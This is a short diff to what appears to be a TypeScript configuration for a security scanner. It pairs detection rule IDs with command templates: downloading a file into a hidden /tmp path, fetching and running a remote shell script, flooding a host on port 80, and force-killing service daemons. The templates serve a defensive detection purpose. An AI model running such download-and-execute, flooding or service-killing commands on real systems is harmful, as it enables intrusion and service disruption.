@@ -38,6 +38,13 @@ const USES: Record<string, ListUse[]> = {
     { rule: 'SW-C2-0003', templates: ['{} http://203.0.113.7/x > /tmp/.x'] },
     { rule: 'SW-EXE-0014', templates: ['{} http://203.0.113.7/x.sh > x.sh; bash x.sh'] },
   ],
+  'flood-tools': [{ rule: 'SW-IMP-0052', templates: ['{} 203.0.113.7', './{} -p 80 203.0.113.7'] }],
+  'service-daemons': [
+    {
+      rule: 'SW-IMP-0201',
+      templates: ['sudo killall -SIGTERM {}', 'kill -9 $(pgrep {})', 'pidof {} | xargs kill'],
+    },
+  ],
   'file-transfer-clients': [
     {
       rule: 'SW-C2-0003',
